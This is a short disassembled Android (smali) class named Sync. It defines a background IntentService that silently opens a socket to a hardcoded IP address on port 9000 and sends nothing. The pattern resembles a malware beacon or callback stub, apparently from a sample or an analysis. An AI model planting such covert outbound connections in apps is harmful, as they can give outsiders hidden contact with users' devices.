.class public Lother/scan/Sync;
.super Landroid/app/IntentService;

.method public onHandleIntent(Landroid/content/Intent;)V
    .registers 5
    const-string v0, "93.184.217.3"
    const v1, 9000
    new-instance v2, Ljava/net/Socket;
    invoke-direct {v2, v0, v1}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
    return-void
.end method
